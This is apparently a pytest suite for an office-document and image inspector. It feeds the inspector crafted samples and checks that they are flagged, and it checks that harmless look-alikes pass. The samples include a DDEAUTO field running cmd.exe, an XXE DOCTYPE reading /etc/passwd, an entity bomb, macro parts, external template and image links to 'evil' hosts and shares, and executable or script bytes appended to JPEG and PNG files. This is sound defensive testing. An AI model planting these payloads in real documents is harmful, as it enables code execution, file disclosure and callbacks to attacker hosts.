"""What hides from a search through plain bytes: the inspector reads structure, so it is found."""

import io
import struct
import zlib

import pytest
from PIL import Image

from projects.documents.inspector import verdict
from tests.make.documents import docx, odt, picture, xlsx

TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
SHEETS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
XLINK = "http://www.w3.org/1999/xlink"
PROGRAM = b"MZ" + bytes(range(1, 255)) * 800


@pytest.fixture(autouse=True)
def the_limit_of_pixels_stays(monkeypatch):
    """The inspector has its own and lifts the library's, which is meant for its own program."""
    monkeypatch.setattr(Image, "MAX_IMAGE_PIXELS", Image.MAX_IMAGE_PIXELS)


def types(*declared: str) -> bytes:
    return f'<Types xmlns="{TYPES}">{"".join(declared)}</Types>'.encode()


def relation(kind: str, target: str, mode: str = 'TargetMode="External"') -> bytes:
    one = f"<Relationship Id='r1' Type='{RELATED}/{kind}' Target='{target}' {mode}/>"
    return f"<Relationships>{one}</Relationships>".encode()


def related(*facts: str) -> bytes:
    return docx(**{"word/_rels/document.xml.rels": relation(*facts)})


def page(body: str) -> bytes:
    return docx(
        **{"word/document.xml": f'<w:document xmlns:w="{WORD}">{body}</w:document>'.encode()}
    )


def run(text: str) -> str:
    return f"<w:r>\n<w:instrText>{text}</w:instrText>\n</w:r>"


def turn(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*runs: str) -> str:
    return turn("begin") + "".join(runs) + turn("separate") + turn("end")


def workbook(body: str) -> bytes:
    return f'<x xmlns="{SHEETS}">{body}</x>'.encode()


def text_document(body: str) -> bytes:
    spaces = f'xmlns:xlink="{XLINK}" xmlns:text="urn:text" xmlns:draw="urn:draw"'
    return odt(**{"content.xml": f"<content {spaces}>{body}</content>".encode()})


DTD = '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'
BOMB = '<!DOCTYPE x [<!ENTITY a "aa"><!ENTITY b "&a;&a;">]><x>&b;</x>'
MACRO = '<Override PartName="/a" ContentType="application/vnd.ms-office.vbaProject"/>'
EVIL = r"\\evil\share\a.xlsx"
COMMAND = r"DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\""
AS_XML = '<Default Extension="dat" ContentType="application/xml"/>'

ACTIVE = {
    "a template from elsewhere in single quotes": (
        "docx",
        related("attachedTemplate", "http://evil/a.dotm", "TargetMode='External'"),
    ),
    "a template from elsewhere with spaces around the sign": (
        "docx",
        related("attachedTemplate", "http://evil/a.dotm", 'TargetMode = "External"'),
    ),
    "a picture from elsewhere": ("docx", related("image", "http://evil/a.png")),
    "a picture from elsewhere as an entity of its mode": (
        "docx",
        related("image", "http://evil/a.png", 'TargetMode="&#69;xternal"'),
    ),
    "a text taken in from another format": ("docx", related("aFChunk", "a.rtf", "")),
    "a document type in UTF-8": ("docx", docx(**{"word/x.xml": DTD.encode()})),
    "a document type in UTF-16": ("docx", docx(**{"word/x.xml": DTD.encode("utf-16")})),
    "a document type in UTF-16 without its mark": (
        "docx",
        docx(**{"word/x.xml": DTD.encode("utf-16-be")}),
    ),
    "a document type in a part of another name": (
        "docx",
        docx(**{"[Content_Types].xml": types(AS_XML), "word/x.dat": DTD.encode()}),
    ),
    "entities that grow": ("xlsx", xlsx(**{"xl/x.xml": BOMB.encode()})),
    "another alphabet that is declared": (
        "docx",
        docx(**{"word/x.xml": b"<?xml version='1.0' encoding='UTF-7'?><x/>"}),
    ),
    "macros among the types": ("docx", docx(**{"[Content_Types].xml": types(MACRO)})),
    "macros among the types in UTF-16": (
        "docx",
        docx(**{"[Content_Types].xml": types(MACRO).decode().encode("utf-16")}),
    ),
    "a command in a field": ("docx", page(field(run(COMMAND)))),
    "a command in a field cut over runs": (
        "docx",
        page(field(run(" D"), run("DEA"), run("UTO cmd.exe"))),
    ),
    "a command in a field inside a field": (
        "docx",
        page(turn("begin") + run("IF ") + field(run("dde cmd")) + turn("end")),
    ),
    "a command in a field that never ends": ("docx", page(turn("begin") + run(COMMAND))),
    "a command in a short field": ("docx", page('<w:fldSimple w:instr="DDE cmd.exe"/>')),
    "a command in a heading of the page": (
        "docx",
        docx(**{"word/header1.xml": f'<w:hdr xmlns:w="{WORD}">{field(run("DDE c"))}</w:hdr>'.encode()}),
    ),
    "a text fetched by a field": ("docx", page(field(run('INCLUDETEXT "http://evil/a"')))),
    "a command in a workbook": (
        "xlsx",
        xlsx(**{"xl/a.xml": workbook('<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')}),
    ),
    "another workbook on a share": (
        "xlsx",
        xlsx(**{"xl/externalLinks/_rels/a.xml.rels": relation("externalLinkPath", EVIL)}),
    ),
    "another workbook whose part is not declared outside": (
        "xlsx",
        xlsx(**{"xl/a.xml": workbook('<externalLink><externalBook/></externalLink>')}),
    ),
    "a connection of a workbook": (
        "xlsx",
        xlsx(**{"xl/connections.xml": b"<connections><connection refreshOnLoad='1'/></connections>"}),
    ),
    "a command in a text document": ("odt", text_document("<text:dde-connection-decl/>")),
    "a macro called by a text document": ("odt", text_document("<text:event-listener/>")),
    "a picture of a text document from elsewhere": (
        "odt",
        text_document('<draw:image xlink:href="https://evil/a.png"/>'),
    ),
    "a section of a text document from a share": (
        "odt",
        text_document(f'<text:section-source xlink:href="{EVIL}"/>'),
    ),
}  # fmt: skip


@pytest.mark.parametrize("case", ACTIVE)
def test_a_document_that_runs_or_reaches_out_is_found(case):
    media_type, content = ACTIVE[case]

    assert verdict(content, media_type)["fault"] == "active"


HONEST = {
    "a link": related("hyperlink", "https://gov.pl"),
    "a part of its own": related("image", "media/a.png", ""),
    "a mark of UTF-8 at its head": docx(**{"word/x.xml": b"\xef\xbb\xbf<x/>"}),
    "words that only sound so": page("<w:t>DDEAUTO vbaProject macroEnabled</w:t>"),
    "a number of a page": page(field(run(" PAGE "))),
    "a link whose address sounds so": page(field(run('HYPERLINK "http://a/dde/link"'))),
}


@pytest.mark.parametrize("case", HONEST)
def test_a_document_that_only_looks_so_is_taken(case):
    assert verdict(HONEST[case], "docx")["fault"] == ""


def test_a_workbook_may_remember_how_it_was_printed():
    content = xlsx(**{"xl/printerSettings/printerSettings1.bin": b"\0A4"})

    assert verdict(content, "xlsx")["fault"] == ""


def test_a_text_document_may_link_and_name_its_template():
    body = '<text:a xlink:href="https://gov.pl"/><draw:image xlink:href="Pictures/a.png"/>'

    assert verdict(text_document(body), "odt")["fault"] == ""


def chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


END_OF_PNG = chunk(b"IEND", b"")
HIDDEN = {
    "a program behind a photo that ends again": (
        "jpeg",
        picture("JPEG") + PROGRAM + b"\xff\xd9",
    ),
    "a program between two photos": ("jpeg", picture("JPEG") + PROGRAM + picture("JPEG")),
    "a second photo that nobody declared": ("jpeg", picture("JPEG") + picture("JPEG")),
    "a word behind a photo": ("jpeg", picture("JPEG") + b"<html>"),
    "a page behind a scan that ends again": (
        "png",
        picture() + b"<html><script>alert(1)</script>" + END_OF_PNG,
    ),
    "a page inside the end of a scan": (
        "png",
        picture().removesuffix(END_OF_PNG) + chunk(b"IEND", b"<html>" * 50),
    ),
}


@pytest.mark.parametrize("case", HIDDEN)
def test_nothing_hides_behind_the_end_of_a_picture(case):
    media_type, content = HIDDEN[case]

    assert verdict(content, media_type)["fault"] in {"hidden", "broken"}


def test_what_a_phone_writes_behind_its_photo_is_taken():
    remark = b"\0\0\x01\x0aImage_UTC_Data1699999999999SEFH" + bytes(20) + b"SEFT"

    assert verdict(picture("JPEG") + remark, "jpeg")["fault"] == ""


def test_a_photo_in_progressive_scans_with_restarts_ends_where_it_ends():
    held = io.BytesIO()
    noise = Image.effect_noise((200, 200), 90)
    noise.save(held, "JPEG", progressive=True, restart_marker_blocks=4)

    assert verdict(held.getvalue() + bytes(40), "jpeg")["fault"] == ""
    assert verdict(held.getvalue() + b"MZ", "jpeg")["fault"] == "hidden"
